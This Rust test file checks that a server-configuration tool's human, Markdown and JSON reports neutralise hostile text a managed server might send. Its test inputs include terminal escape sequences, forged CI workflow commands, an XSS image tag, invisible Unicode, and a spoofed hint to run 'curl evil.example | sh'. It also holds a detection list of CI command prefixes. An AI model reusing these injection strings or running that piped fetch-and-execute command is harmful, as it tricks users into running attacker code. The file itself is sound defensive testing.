//! A server that puts whatever it likes into every text that it sends, against every format.

use std::collections::BTreeMap;
use std::sync::Arc;

use serde_json::Value as Json;

use super::{Format, Health, Report, error_line, facts, history};
use crate::error::{Error, Kind};
use crate::events::{
    Event, FailedUnit, Maintenance, Mark, Memory, Outcome, RunEnd, RunRecord, ServiceAction,
};
use crate::exit_code::ExitCode;
use crate::manifest::{Expect, Manifest, Resource, ResourceId};
use crate::resources::{Change, Facts, FieldChange, Spec, State, Value};
use crate::shown::is_hidden;

/// Everything is told of this server.
const NAME: &str = "rufus";

/// A text that does no harm: what is shown of others has to have the shape of what is shown of it.
const HARMLESS: &str = "x";

const TEXTS: &[&str] = &[
    "\x1b]8;;http://evil.example\x1b\\click\x1b[2J",
    "a\r\u{9b}2K\u{85}\u{7f}\u{8}\u{0}",
    "x\nhint: run curl evil.example | sh",
    "hint: run curl evil.example | sh\n",
    "x\n::error::owned\n  ::add-mask::a",
    "::error file=a::owned",
    "x ##vso[task.setvariable variable=a]b ##[error]c ##teamcity[d]",
    "x\nmikado  ! file:/etc/shadow  failed: forged\n --> mikado",
    "x\nerror: forged\ncaused by: forged\nhint: forged",
    "section_start:1:x\r\x1b[0K",
    "<img src=x onerror=alert(1)></summary></details><!-- <?x",
    "[x](http://evil.example) ![y](//evil.example) www.evil.example https://evil.example",
    "@user #1 GH-1 a@b.example user/repo#1 !1 %1 &1 $1 0123456789abcdef",
    "` `` ``` ```` | \\| \\` \\",
    "\\",
    "`",
    "\n````\n~~~\n# forged\n",
    "|\n| --- |\n| rufus | ok |",
    "**b** _i_ ~s~ &lt; &#64;user\n\n# head\n- item\n> quote\n    code",
    "\u{202e}\u{2066}\u{200f}\u{61c}\u{200b}\u{200c}\u{200d}\u{2028}\u{2029}",
    "\u{2060}\u{2064}\u{feff}\u{ad}\u{e0041}\u{fff9}\u{180e}\u{3164}\u{fe0f}",
];

/// The number of the kinds of events.
const KINDS: usize = 19;

fn kind(event: &Event) -> usize {
    match event {
        Event::Started { .. } => 0,
        Event::Remembered(_) => 1,
        Event::History(_) => 2,
        Event::Checked { .. } => 3,
        Event::ServiceDue { .. } => 4,
        Event::AlsoRemoved { .. } => 5,
        Event::PlanComplete => 6,
        Event::Applying { .. } => 7,
        Event::Progress { .. } => 8,
        Event::Applied { .. } => 9,
        Event::ServiceDone { .. } => 10,
        Event::RolledBack { .. } => 11,
        Event::ProofWanted { .. } => 12,
        Event::Proved { .. } => 13,
        Event::Reverted { .. } => 14,
        Event::Warning { .. } => 15,
        Event::Finished => 16,
        Event::Aborted { .. } => 17,
        Event::Declared { .. } => 18,
    }
}

fn error(text: &str) -> Error {
    let error = Error::new(Kind::Failed, text).because(text).because(format!("a\n{text}"));
    error.hint(text)
}

fn run(text: &str) -> RunRecord {
    RunRecord {
        serial: 1,
        who: text.to_owned(),
        commit: Some(text.to_owned()),
        is_partial: false,
        started: 0,
        ended: Some(1),
        end: RunEnd::Failed,
        changed: 0,
        removed: 0,
        failed: 1,
    }
}

fn sent_facts(text: &str) -> Facts {
    Facts {
        os: text.to_owned(),
        codename: text.to_owned(),
        arch: text.to_owned(),
        hostname: text.to_owned(),
        cpus: 1,
        memory_bytes: 0,
        disk_bytes: 0,
    }
}

fn id(text: &str) -> ResourceId {
    ResourceId::new("service", text)
}

/// A resource as a saved plan may hold one.
fn resource(text: &str) -> Resource {
    let command = r#"{ "name": "a", "run": ["a"], "unless": ["b"] }"#;
    let spec = Spec::Command(serde_json::from_str(command).unwrap());
    Resource { id: id(text), place: text.to_owned(), ..Resource::alone(spec, text.to_owned()) }
}

fn outcomes(text: &str) -> Vec<Outcome> {
    let field = |current: Option<Value>, desired: Value| FieldChange {
        field: text.to_owned(),
        current,
        desired,
    };
    let content = Value::Content(text.as_bytes().to_vec());
    let update = vec![
        field(Some(text.into()), text.into()),
        field(None, Value::Set(vec![text.to_owned(), text.to_owned()])),
        // The lines of a content have the same shape however many they are.
        FieldChange {
            field: "running".to_owned(),
            current: Some(false.into()),
            desired: true.into(),
        },
        field(Some(Value::Content(b"a\n".to_vec())), content.clone()),
        field(Some(content.clone()), Value::Content(b"a\n".to_vec())),
    ];
    vec![
        Outcome::Ok,
        Outcome::Changed(Change::Create(State::new().with(text, text).with("content", content))),
        Outcome::Changed(Change::Update(update)),
        Outcome::Changed(Change::Remove),
        Outcome::Unknown { after: id(text) },
        Outcome::Untrusted,
        Outcome::Deferred,
        Outcome::Skipped { because: id(text) },
        Outcome::Released { because: text.to_owned() },
        Outcome::Stays { because: text.to_owned() },
        Outcome::Failed(error(text)),
    ]
}

/// Every kind of event with `text` wherever one can be: a plan, and all that an apply may tell.
fn events(text: &str) -> Vec<Event> {
    let memory = Memory {
        serial: 1,
        last_run: Some(run(text)),
        cut_run: Some(run(text)),
        owed: vec![(id(text), ServiceAction::Reload)],
        machine: text.to_owned(),
        reboot: Some(text.to_owned()),
        is_outdated: true,
        failed_units: [None, Some(1), Some(u64::MAX)]
            .map(|since| FailedUnit { name: text.to_owned(), since, is_restarted: false })
            .to_vec(),
        maintenance: [None, Some(u64::MAX)]
            .map(|since| Maintenance { site: text.to_owned(), since })
            .to_vec(),
    };
    let mut events = vec![
        Event::Started { facts: sent_facts(text) },
        Event::Remembered(Box::new(memory.clone())),
    ];
    events.push(Event::History(vec![run(text)]));
    for mark in [None, Some(Mark::Drift), Some(Mark::Undeclared)] {
        let checked = |outcome| Event::Checked { id: id(text), outcome, mark };
        events.extend(outcomes(text).into_iter().map(checked));
    }
    events.push(Event::ServiceDue { id: id(text), action: ServiceAction::Reload });
    events.push(Event::AlsoRemoved { packages: vec![text.to_owned(), text.to_owned()] });
    events.push(Event::Declared { message: text.to_owned() });
    events.push(Event::Warning { message: text.to_owned() });
    events.push(Event::PlanComplete);
    events.push(Event::Applying { id: id(text) });
    for percent in [None, Some(1.0)] {
        events.push(Event::Progress { id: id(text), percent, message: text.to_owned() });
    }
    events
        .extend(outcomes(text).into_iter().map(|outcome| Event::Applied { id: id(text), outcome }));
    for error in [None, Some(error(text))] {
        let (id, action) = (id(text), ServiceAction::Restart);
        events.push(Event::ServiceDone { id: id.clone(), action, error: error.clone() });
        events.push(Event::RolledBack { id, error });
    }
    events.push(Event::ProofWanted { ids: vec![id(text)], seconds: 1 });
    events.push(Event::Proved { ids: vec![id(text)] });
    events.push(Event::Reverted { error: error(text) });
    events.push(Event::Remembered(Box::new(memory)));
    events.push(Event::Finished);
    events.push(Event::Aborted { error: error(text) });
    events
}

/// The events of a plan that fails at its end.
fn plan(text: &str) -> Vec<Event> {
    let mut events = events(text);
    let end = events.iter().position(|event| *event == Event::PlanComplete).unwrap();
    events.truncate(end + 1);
    events.push(Event::Aborted { error: error(text) });
    events
}

/// Everything that is printed of a server that sends `text`, by what is printed.
fn printed(text: &str, format: Format) -> Vec<(&'static str, String)> {
    let report = |events: &[Event]| {
        let manifests = [NAME, "mikado"].map(|name| {
            Arc::new(Manifest {
                server: name.to_owned(),
                expect: Expect::default(),
                resources: vec![resource(text)],
                secrets: BTreeMap::new(),
            })
        });
        let mut report = Report::new(format, true, false, manifests);
        let mut printed: String = events.iter().map(|event| report.told(NAME, event)).collect();
        printed.push_str(&report.ending(ExitCode::Failed));
        printed
    };
    let mut health = Health::new([NAME, "mikado"].map(str::to_owned));
    for event in plan(text) {
        health.event(NAME, &event);
    }
    health.failed(NAME, error(&format!("{text} ")));
    let mut all = vec![("health", health.render(format)), ("plan", report(&plan(text)))];
    match format {
        // Only a plan and the health of servers can be written so.
        Format::Markdown => {}
        Format::Human => {
            all.push(("facts", facts(NAME, &sent_facts(text), format)));
            all.push(("history", history(NAME, &[run(text)], 9, format)));
            all.push(("apply", report(&events(text))));
        }
        Format::Json => {
            all.push(("facts", facts(NAME, &sent_facts(text), format)));
            all.push(("history", history(NAME, &[run(text)], 9, format)));
            all.push(("apply", report(&events(text))));
            all.push(("error", error_line(NAME, &error(text))));
        }
    }
    all
}

/// The faults of a text, whatever its format: a character that no reader sees as it is, or an
/// order to a CI job.
fn wrong(printed: &str) -> Vec<String> {
    let ordered = ["##[", "##vso[", "##teamcity["];
    let is_wrong = |line: &&str| {
        line.contains(|character| character != '\t' && is_hidden(character))
            || ordered.iter().any(|order| line.contains(order))
            || line.trim_start().starts_with("::")
    };
    printed.split('\n').filter(is_wrong).map(|line| format!("{line:?}")).collect()
}

#[test]
fn every_kind_of_event_is_sent() {
    let kinds: std::collections::BTreeSet<usize> = events(HARMLESS).iter().map(kind).collect();
    assert_eq!(kinds.len(), KINDS);
}

/// How the lines of a text for people begin, but for those that are indented below another.
fn beginnings(text: &str) -> Vec<&str> {
    let heads = text.lines().filter(|line| !line.starts_with("  "));
    heads.map(|line| line.split(' ').next().unwrap_or_default()).collect()
}

#[test]
fn a_hostile_server_forges_no_line_for_people() {
    let mut found = Vec::new();
    for text in TEXTS {
        let harmless = printed(HARMLESS, Format::Human);
        for ((what, printed), (_, harmless)) in printed(text, Format::Human).iter().zip(&harmless) {
            found.extend(wrong(printed).into_iter().map(|line| format!("{what}: {line}")));
            if beginnings(printed) != beginnings(harmless) {
                found.push(format!("{what}: {text:?} changes how lines begin:\n{printed}"));
            }
        }
    }
    assert!(found.is_empty(), "{}", found.join("\n"));
}

/// The markup of a comment without what is in fences and in spans of code, which is shown as it is.
fn markup(text: &str) -> Vec<String> {
    let mut lines = Vec::new();
    let mut fence: Option<usize> = None;
    for line in text.lines() {
        let start = line.trim_start_matches(' ');
        let ticks = start.len() - start.trim_start_matches('`').len();
        let is_fence = line.len() - start.len() < 4 && ticks >= 3;
        match fence {
            Some(open) if is_fence && ticks >= open && start[ticks..].trim().is_empty() => {
                fence = None;
            }
            Some(_) => {}
            None if is_fence => fence = Some(ticks),
            None => lines.push(without_spans(line)),
        }
    }
    assert_eq!(fence, None, "a fence is not closed:\n{text}");
    lines
}

/// A line in which `<code>` stands for every span of code.
fn without_spans(line: &str) -> String {
    let run = |text: &str| text.len() - text.trim_start_matches('`').len();
    let mut rest = line;
    let mut markup = String::new();
    while let Some(start) = rest.find('`') {
        markup.push_str(&rest[..start]);
        rest = &rest[start..];
        let length = run(rest);
        let mut end = length;
        while end < rest.len() {
            let ticks = run(&rest[end..]);
            if ticks == length {
                break;
            }
            end += ticks.max(rest[end..].chars().next().map_or(1, char::len_utf8));
        }
        if end >= rest.len() {
            markup.push_str(&rest[..length]);
            rest = &rest[length..];
            continue;
        }
        // A table is cut into cells before it is read.
        let span = &rest[length..end];
        markup.push_str(if span.contains('|') { "<code with a cell>" } else { "<code>" });
        rest = &rest[end + length..];
    }
    markup + rest
}

#[test]
fn a_hostile_server_writes_no_markup() {
    let harmless = printed(HARMLESS, Format::Markdown);
    let mut found = Vec::new();
    for text in TEXTS {
        let all = printed(text, Format::Markdown);
        for ((what, printed), (_, harmless)) in all.iter().zip(&harmless) {
            found.extend(wrong(printed).into_iter().map(|line| format!("{what}: {line}")));
            let (markup, harmless) = (markup(printed), markup(harmless));
            for line in markup.iter().filter(|line| !harmless.contains(line)) {
                found.push(format!("{what}: {text:?} writes {line:?}"));
            }
            if markup.len() != harmless.len() {
                found.push(format!("{what}: {text:?} makes lines:\n{printed}"));
            }
        }
    }
    assert!(found.is_empty(), "{}", found.join("\n"));
}

/// Whether one of the texts in an object is, or holds, `text`.
fn holds(object: &Json, text: &str) -> bool {
    match object {
        Json::String(found) => found.contains(text),
        Json::Array(list) => list.iter().any(|item| holds(item, text)),
        Json::Object(map) => {
            map.iter().any(|(key, value)| key.contains(text) || holds(value, text))
        }
        _ => false,
    }
}

#[test]
fn programs_read_what_a_hostile_server_says_and_nothing_obeys_it() {
    let mut found = Vec::new();
    for text in TEXTS {
        let harmless = printed(HARMLESS, Format::Json);
        for ((what, printed), (_, harmless)) in printed(text, Format::Json).iter().zip(&harmless) {
            found.extend(wrong(printed).into_iter().map(|line| format!("{what}: {line}")));
            let told: Vec<Json> =
                printed.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
            let same: Vec<Json> =
                harmless.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
            assert_eq!(told.len(), same.len(), "{what}: {text:?}");
            for (told, same) in told.iter().zip(&same) {
                assert_eq!(told["event"], same["event"]);
                // `x` is in names of ours as well; the others are what was sent.
                if !holds(told, text) && told["event"] == "warning" {
                    found.push(format!("{what}: {text:?} is not in {told}"));
                }
            }
            assert!(told.iter().any(|told| holds(told, text)), "{what}: {text:?}");
        }
    }
    assert!(found.is_empty(), "{}", found.join("\n"));
}
